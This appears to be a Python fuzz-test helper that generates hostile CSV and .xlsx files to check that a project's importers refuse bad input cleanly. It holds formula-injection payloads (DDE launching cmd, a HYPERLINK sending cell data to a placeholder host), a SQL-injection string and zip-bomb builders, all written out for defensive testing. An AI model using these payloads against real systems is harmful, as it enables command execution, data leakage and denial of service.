"""Hostile files for the importers' fuzz tests (issue 15): hypothesis strategies that start from a
valid table and spoil it the ways a careless or hostile sender would — cells that are formulas
(``=cmd|' /C calc'!A0``, ``=HYPERLINK(...)``), merged ranges, a cell far away, a dimension that
claims the whole sheet, a shared-string table that declares billions, zip bombs (a small .xlsx
whose XML expands beyond the bounds, or lies about its size), bytes that are no zip but are named
.xlsx, damaged zips, CSV in GBK, UTF-8 with and without BOM, UTF-16, garbage bytes, NULs,
unbalanced quotes and overlong fields.

Each importer's test (``youfu/*/tests/test_*_fuzz.py``) asserts the same property with
``assert_clear_or_whole``: the import either succeeds whole or is refused with youfu's own error
(an ``InvalidInput``/``ImportRejected``/``Conflict`` with a code and a message), and a refused
file changes nothing. ``memory_of`` reads a file in a forked child and measures what it took.

``make test`` runs a few examples per importer; ``make fuzz-imports`` (``YOUFU_FUZZ=deep``) many.
The bounded-reading tests these build on are ``youfu/core/tests/test_bounded_workbooks.py``.
"""

from __future__ import annotations

import csv
import io
import json
import multiprocessing
import os
import resource
import tracemalloc
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import openpyxl
import pytest
from django.db import transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from youfu.core.errors import YoufuError
from youfu.core.tests.test_bounded_workbooks import handmade

DEEP = os.environ.get("YOUFU_FUZZ") == "deep"
EXAMPLES = int(os.environ.get("YOUFU_FUZZ_IMPORT_EXAMPLES") or (5000 if DEEP else 100))

FUZZ_SETTINGS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=not DEEP,
    database=None,
    # One world per test, each example rolled back in a savepoint.
    suppress_health_check=list(HealthCheck),
)

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?d="&A2,"点击查看")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
)
ODD_TEXT = (
    "",
    " ",
    "\u3000",
    "\x00",
    "a\x00b",
    "\ufeff",
    '"',
    '"unbalanced',
    "\r\n",
    "𠀀𪚥",  # beyond the BMP
    "\ud7ff",
    "x" * 300,
    "1e309",
    "-0",
    "NaN",
    "9" * 40,
    "1900-02-29",
    "2026-13-40",
    '<c r="XFD1048576"/>',
    "'; DROP TABLE registry_beneficiary; --",
)
ENCODINGS = ("utf-8", "utf-8", "utf-8-sig", "gbk", "gbk", "gb18030", "utf-16", "latin-1")

# How many examples each importer ran, and how they ended (imported, or the refusal's code), for
# the figures (YOUFU_FUZZ_STATS names a file).
RUN: Counter[str] = Counter()
ENDS: Counter[tuple[str, str]] = Counter()


@dataclass(frozen=True)
class Hostile:
    data: bytes
    filename: str
    how: str  # what was done to the file, for the failure's message

    def __repr__(self) -> str:
        return f"Hostile({self.how}, {self.filename!r}, {len(self.data)} bytes, {self.data[:60]!r}…)"


# --- tables ---------------------------------------------------------------------------------------


def spoiled_tables(base: Sequence[Sequence[Any]]) -> st.SearchStrategy[list[list[Any]]]:
    """``base`` (header first) with some cells replaced by formulas, odd text or numbers, rows
    dropped or repeated, and the header itself sometimes spoiled."""
    cell = st.one_of(
        st.sampled_from(FORMULAS),
        st.sampled_from(ODD_TEXT),
        st.text(max_size=40),
        st.integers(min_value=-(10**20), max_value=10**20),
        st.floats(allow_nan=True, allow_infinity=True),
    )

    @st.composite
    def build(draw: st.DrawFn) -> list[list[Any]]:
        rows = [list(r) for r in base]
        # Often none or few: a file spoiled only in its form (encoding, merges) must still import.
        for _ in range(draw(st.sampled_from([0, 0, 0, 1, 2, 6]))):
            r = draw(st.integers(0, len(rows) - 1))
            c = draw(st.integers(0, max(len(rows[r]) - 1, 0)))
            if rows[r]:
                rows[r][c] = draw(cell)
        if draw(st.integers(0, 3)) == 0:
            rows.append(list(rows[draw(st.integers(1, len(rows) - 1))]) if len(rows) > 1 else [])
        if len(rows) > 2 and draw(st.integers(0, 3)) == 0:
            del rows[draw(st.integers(1, len(rows) - 1))]
        if draw(st.integers(0, 9)) == 0:
            rows.insert(0, [draw(cell)])  # a title row above the header
        return rows

    return build()


def csv_of(rows: Sequence[Sequence[Any]], encoding: str) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode(encoding, errors="replace")


def xlsx_of(
    rows: Sequence[Sequence[Any]],
    *,
    merges: Sequence[str] = (),
    formulas: Sequence[tuple[str, str]] = (),
    far: str | None = None,
) -> bytes:
    """A real workbook (openpyxl): ``formulas`` are written as formula cells (no cached value,
    as a hostile file would have them), ``far`` puts a cell at that reference."""
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append([_xlsx_value(v) for v in row])
    for ref, formula in formulas:
        sheet[ref] = formula
    if far:
        sheet[far] = "x"
    for ref in merges:
        sheet.merge_cells(ref)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xlsx_value(value: Any) -> Any:
    if isinstance(value, str):
        # openpyxl refuses control characters in cells; a file from elsewhere might hold them,
        # but then it is the CSV cases that bring them.
        return "".join(ch for ch in value if ch >= " " or ch in "\t\n\r") or None
    if isinstance(value, float) and (value != value or value in (float("inf"), float("-inf"))):
        return str(value)
    return value


# --- the files ------------------------------------------------------------------------------------


def _columns(rows: Sequence[Sequence[Any]]) -> int:
    return max((len(r) for r in rows), default=1)


def _letters(n: int) -> str:
    out = ""
    while n:
        n, rest = divmod(n - 1, 26)
        out = chr(65 + rest) + out
    return out


@st.composite
def hostile_files(draw: st.DrawFn, base: Sequence[Sequence[Any]], *, csv_only: bool = False) -> Hostile:
    """One hostile file made from ``base`` (a valid table, header first)."""
    rows = draw(spoiled_tables(base))
    kinds = ["csv", "csv", "csv_bytes"]
    if not csv_only:
        kinds += ["xlsx", "xlsx", "xlsx", "xlsx_hand", "zip", "bomb"]
    kind = draw(st.sampled_from(kinds))
    if kind == "csv":
        encoding = draw(st.sampled_from(ENCODINGS))
        data = csv_of(rows, encoding)
        if draw(st.integers(0, 3)) == 0:
            data = data.replace(b",", b"\t")
        return Hostile(
            data, draw(st.sampled_from(["名册.csv", "x.CSV", "no-extension", "名册.xlsx"])), f"csv {encoding}"
        )
    if kind == "csv_bytes":
        data = csv_of(rows, "utf-8")
        how = draw(st.sampled_from(["nul", "garbage", "bom-gbk", "truncate", "crlf", "long-field", "quote"]))
        if how == "nul":
            at = draw(st.integers(0, len(data)))
            data = data[:at] + b"\x00" * draw(st.integers(1, 5)) + data[at:]
        elif how == "garbage":
            data = draw(st.binary(min_size=1, max_size=400))
        elif how == "bom-gbk":
            data = b"\xef\xbb\xbf" + csv_of(rows, "gbk")
        elif how == "truncate":
            data = data[: draw(st.integers(0, len(data)))]
        elif how == "crlf":
            data = data.replace(b"\n", b"\r")
        elif how == "long-field":
            data = data + b'"' + b"x" * draw(st.sampled_from([1000, 131_073, 300_000])) + b'"\n'
        else:
            data = data.replace(b",", b',"', draw(st.integers(1, 3)))
        return Hostile(data, "名册.csv", f"csv bytes: {how}")
    if kind == "xlsx":
        width = _columns(rows)
        merges = draw(
            st.lists(
                st.sampled_from(
                    [
                        f"A2:{_letters(width)}2",
                        "A1:B1",
                        "A2:A4",
                        f"B2:{_letters(width)}3",
                        "A1:AZ1",  # beyond the columns; a merge to the sheet's end is handmade below
                    ]
                ),
                max_size=2,
                unique=True,
            )
        )
        formulas = draw(
            st.lists(
                st.tuples(
                    st.sampled_from(["A2", "B2", "C3", f"{_letters(width)}2"]), st.sampled_from(FORMULAS)
                ),
                max_size=3,
            )
        )
        formulas = [(ref, f if f.startswith("=") else "=" + f) for ref, f in formulas]
        far = draw(
            st.one_of(st.none(), st.sampled_from(["XFD1048576", "C1048576", "SS2", "A500001", "AZ400"]))
        )
        try:
            data = xlsx_of(rows, merges=merges, formulas=formulas, far=far)
        except ValueError:  # openpyxl's own refusal of an odd value
            data = xlsx_of([[str(v) for v in r] for r in rows], merges=merges, formulas=formulas, far=far)
        return Hostile(
            data, draw(st.sampled_from(["名册.xlsx", "名册.csv", "名册"])), f"xlsx merges={merges} far={far}"
        )
    if kind == "xlsx_hand":
        return draw(handmade_files())
    if kind == "zip":
        good = xlsx_of(rows)
        how = draw(st.sampled_from(["not-a-zip", "truncated", "flipped", "no-workbook", "xlsb", "empty"]))
        if how == "not-a-zip":
            data = b"PK" + draw(st.binary(max_size=200))
        elif how == "truncated":
            data = good[: draw(st.integers(2, len(good) - 1))]
        elif how == "flipped":
            buffer = bytearray(good)
            for _ in range(draw(st.integers(1, 8))):
                at = draw(st.integers(0, len(buffer) - 1))
                buffer[at] ^= draw(st.integers(1, 255))
            data = bytes(buffer)
        elif how == "no-workbook":
            out = io.BytesIO()
            with zipfile.ZipFile(out, "w") as archive:
                archive.writestr("hello.txt", "不是工作簿")
            data = out.getvalue()
        elif how == "xlsb":
            out = io.BytesIO()
            with zipfile.ZipFile(out, "w") as archive:
                archive.writestr("xl/workbook.xml", "<workbook/>")
                archive.writestr("xl/worksheets/sheet1.bin", b"\x00" * 64)
            data = out.getvalue()
        else:
            data = b""
        return Hostile(data, "名册.xlsx", f"zip: {how}")
    return Hostile(small_bomb(draw(st.sampled_from(["declared", "lying", "cells"]))), "名册.xlsx", "zip bomb")


@st.composite
def handmade_files(draw: st.DrawFn) -> Hostile:
    """Sheets written by hand: what no spreadsheet program writes but a crafted file can."""
    how = draw(
        st.sampled_from(
            ["far-cell", "dimension", "no-refs", "shared-strings", "merged-huge", "bad-xml", "deep"]
        )
    )
    if how == "far-cell":
        ref = draw(st.sampled_from(["XFD1048576", "A1048576", "XFD1", "ZZZ9999999"]))
        sheet = f'<row r="1"><c r="A1"><v>1</v></c></row><row r="9"><c r="{ref}"><v>2</v></c></row>'
        return Hostile(handmade(sheet), "x.xlsx", f"hand: far cell {ref}")
    if how == "dimension":
        return Hostile(
            handmade(
                '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>', dimension="A1:XFD1048576"
            ),
            "x.xlsx",
            "hand: dimension claims the sheet",
        )
    if how == "no-refs":
        count = draw(st.sampled_from([10, 600, 20_000]))
        return Hostile(
            handmade("<row>" + "<c><v>1</v></c>" * count + "</row>"),
            "x.xlsx",
            f"hand: {count} cells, no refs",
        )
    if how == "shared-strings":
        declared = draw(st.sampled_from(["99999999999", "4294967296", "3"]))
        sst = (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'count="{declared}" uniqueCount="{declared}"><si><t>a</t></si></sst>'
        )
        sheet = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>7</v></c></row>'
        return Hostile(handmade(sheet, shared_strings=sst), "x.xlsx", f"hand: sst count {declared}")
    if how == "merged-huge":
        sheet = '<row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells count="1">'
        sheet += '<mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>'
        return Hostile(handmade(sheet), "x.xlsx", "hand: merged to the last cell")
    if how == "bad-xml":
        return Hostile(handmade('<row r="1"><c r="A1"><v>1</v></row></c><<<&'), "x.xlsx", "hand: broken XML")
    # Nested elements, as an entity-free "billion laughs" cannot be: deep nesting instead.
    return Hostile(
        handmade('<row r="1">' + '<c r="A1"><is>' * 2000 + "</is></c>" * 2000 + "</row>"),
        "x.xlsx",
        "hand: deep",
    )


_BOMBS: dict[str, bytes] = {}


def small_bomb(how: str) -> bytes:
    """A small .xlsx whose sheet unpacks far beyond what its bytes suggest (made once).

    - ``declared``: its sizes, as declared, are beyond ``MAX_UNCOMPRESSED_BYTES`` (600 MB);
    - ``lying``: it declares a 1 KB sheet that really unpacks to 600 MB;
    - ``cells``: an honest sheet whose rows reach row 190,001 and column 1,000 (beyond the
      columns a sheet may have), a few KB packed."""
    if how not in _BOMBS:
        _BOMBS[how] = _make_bomb(how)
    return _BOMBS[how]


def _make_bomb(how: str) -> bytes:
    head = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    tail = b"</sheetData></worksheet>"
    if how == "cells":
        row = "".join(f'<c r="{_letters(c)}{{r}}"><v>1</v></c>' for c in range(1, 1001))
        body = b"".join(
            f'<row r="{r}">{row.replace("{r}", str(r))}</row>'.encode() for r in range(1, 200_001, 10_000)
        )
        sheet = _deflated([head, body, tail])
    else:
        # 600 MB of spaces: one packed megabyte, repeated (a full flush makes each copy stand alone).
        sheet = _deflated([head, *[b" " * (1024 * 1024)] * 600, tail], repeat_same=True)
    parts = [(name, _deflated([text.encode()])) for name, text in handmade_parts()]
    if how == "lying":
        packed, crc, _real_size = sheet
        parts.append(("xl/worksheets/sheet1.xml", (packed, crc, 1024)))  # declares a 1 KB sheet
    else:
        parts.append(("xl/worksheets/sheet1.xml", sheet))
    return _zip(parts)


def _deflated(pieces: list[bytes], *, repeat_same: bool = False) -> tuple[bytes, int, int]:
    """Raw deflate of the pieces joined, with their CRC-32 and size. With ``repeat_same`` the
    pieces between the first and the last are one piece repeated, packed once."""
    import zlib

    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [packer.compress(pieces[0]) + packer.flush(zlib.Z_FULL_FLUSH)]
    crc = zlib.crc32(pieces[0])
    size = len(pieces[0])
    middle = pieces[1:-1]
    if repeat_same and middle:
        block = packer.compress(middle[0]) + packer.flush(zlib.Z_FULL_FLUSH)
        out.append(block * len(middle))
        for piece in middle:
            crc = zlib.crc32(piece, crc)
        size += len(middle[0]) * len(middle)
    else:
        for piece in middle:
            out.append(packer.compress(piece))
            crc = zlib.crc32(piece, crc)
            size += len(piece)
    if len(pieces) > 1:
        out.append(packer.compress(pieces[-1]))
        crc = zlib.crc32(pieces[-1], crc)
        size += len(pieces[-1])
    out.append(packer.flush())
    return b"".join(out), crc, size


def _zip(parts: list[tuple[str, tuple[bytes, int, int]]]) -> bytes:
    """A zip written by hand, so that a part may declare any size."""
    import struct

    out, central = bytearray(), bytearray()
    for name, (packed, crc, size) in parts:
        offset, encoded = len(out), name.encode()
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(packed), size, len(encoded), 0
        )
        out += encoded + packed
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(packed),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(central), len(out), 0)
    return bytes(out + central + end)


def handmade_parts() -> list[tuple[str, str]]:
    from youfu.core.tests.test_bounded_workbooks import CONTENT_TYPES, RELS, WORKBOOK, WORKBOOK_RELS

    return [
        ("[Content_Types].xml", CONTENT_TYPES),
        ("_rels/.rels", RELS),
        ("xl/workbook.xml", WORKBOOK),
        ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
    ]


# --- the property ---------------------------------------------------------------------------------


@contextmanager
def rolled_back() -> Iterator[None]:
    """Each example in a savepoint, rolled back: the next meets the same database."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def assert_clear_or_whole(
    importer: str,
    file: Hostile,
    run: Callable[[], Any],
    counts: Callable[[], Any],
    after_success: Callable[[Any, Any], Any] | None = None,
) -> Any:
    """Run one import of ``file``: it succeeds whole or is refused with youfu's own error, and a
    refused file leaves ``counts()`` as it was (the importer's own transaction, not the test's,
    must see to that). ``after_success(before, result)`` is what ``counts()`` must be after a
    success. Returns the result, or the refusal."""
    RUN[importer] += 1
    before = counts()
    try:
        result = run()
    except YoufuError as refused:
        assert refused.code and refused.message.en, f"{file!r}: a refusal without a code or message"
        assert counts() == before, f"{file!r}: refused ({refused.code}) but the tables changed"
        ENDS[(importer, refused.code)] += 1
        return refused
    except Exception as exc:
        raise AssertionError(f"{file!r}: the import crashed with {type(exc).__name__}: {exc}") from exc
    if after_success is not None:
        assert counts() == after_success(before, result), f"{file!r}: the tables do not show what it said"
    ENDS[(importer, "imported")] += 1
    return result


@pytest.fixture(scope="module", autouse=True)
def figures() -> Iterator[None]:
    """Import this into a fuzz test module: it writes the module's example counts at its end."""
    yield
    write_figures()


def write_figures() -> None:
    target = os.environ.get("YOUFU_FUZZ_STATS")
    if target and RUN:
        with open(target, "a", encoding="utf-8") as out:
            for importer, count in sorted(RUN.items()):
                ends = {end: n for (which, end), n in ENDS.items() if which == importer}
                out.write(json.dumps({"importer": importer, "cases": count, "ends": ends}) + "\n")
    RUN.clear()
    ENDS.clear()


# --- memory -----------------------------------------------------------------------------------------


def _rss_kib() -> int:
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") // 1024


def _measured(target: Callable[[], Any], pipe: Any) -> None:
    start = _rss_kib()
    tracemalloc.start()
    try:
        target()
        outcome = ("read", "")
    except YoufuError as exc:
        outcome = ("refused", exc.code)
    except BaseException as exc:
        outcome = ("raised", f"{type(exc).__name__}: {exc}")
    _, python_peak = tracemalloc.get_traced_memory()
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - start
    pipe.send((*outcome, max(grown, 0), python_peak // 1024))


@dataclass(frozen=True)
class Memory:
    outcome: str
    detail: str
    rss_kib: int  # how far the process's peak resident memory rose above where it started
    python_kib: int  # the peak of Python's own allocations (tracemalloc)


def memory_of(target: Callable[[], Any]) -> Memory:
    """Run ``target`` in a forked copy of this process (which a reader gone wrong may kill
    without killing the tests) and measure the memory it took."""
    context = multiprocessing.get_context("fork")
    receive, send = context.Pipe(duplex=False)
    child = context.Process(target=_measured, args=(target, send))
    child.start()
    child.join(120)
    if child.is_alive():
        child.kill()
        raise AssertionError("reading the file took more than two minutes")
    assert child.exitcode == 0, f"the reader killed its process (exit code {child.exitcode})"
    return Memory(*receive.recv())
